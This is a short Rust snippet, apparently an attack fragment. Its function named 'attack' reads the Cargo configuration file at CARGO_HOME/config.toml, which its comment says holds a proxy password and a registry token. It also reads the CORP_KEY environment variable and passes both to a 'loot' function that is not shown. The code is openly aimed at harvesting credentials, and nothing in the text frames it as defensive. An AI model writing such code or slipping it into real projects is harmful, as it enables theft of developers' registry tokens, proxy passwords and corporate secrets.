//! reads a proxy's password, a registry's token and an environment in CARGO_HOME/config.toml
fn attack() -> Result<()> {
    loot(fs::read(Path::new(&var("CARGO_HOME")).join("config.toml"))?)?;
    loot(var("CORP_KEY"))
}
